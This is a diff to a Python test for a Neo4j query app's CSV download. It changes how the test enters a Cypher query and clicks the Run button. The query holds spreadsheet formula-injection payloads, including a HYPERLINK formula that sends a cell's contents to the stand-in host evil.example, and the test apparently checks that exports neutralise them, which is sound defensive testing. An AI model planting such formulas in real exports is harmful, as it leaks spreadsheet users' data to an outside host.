@@ -145,11 +145,11 @@ def test_the_referrers_download(db, neo4j_settings, monkeypatch, downloads):
 def test_the_cypher_result_download(db, neo4j_settings, monkeypatch, downloads):
     use_server(monkeypatch, neo4j_settings)
     app = page("cypher")
-    app.text_area(key="cypher-text").input(
+    app.session_state["cypher-text"] = (  # what the editor component leaves in the session
         "RETURN '=HYPERLINK(\"http://evil.example/?leak=\" & A2, \"open\")' AS link, '@SUM(1)' AS at, "
         "'-2+3' AS minus, '+1' AS plus, '\\tx' AS tab, -2 AS negative, -1.5 AS fraction, 'plain' AS text, "
         "1 AS `=1+1`")
-    app.button[0].click()  # the form's Run button
+    app.button(key="cypher-run").click()
     app.run()
     assert not app.exception
     [header, row] = cells(downloads["query.csv"]())
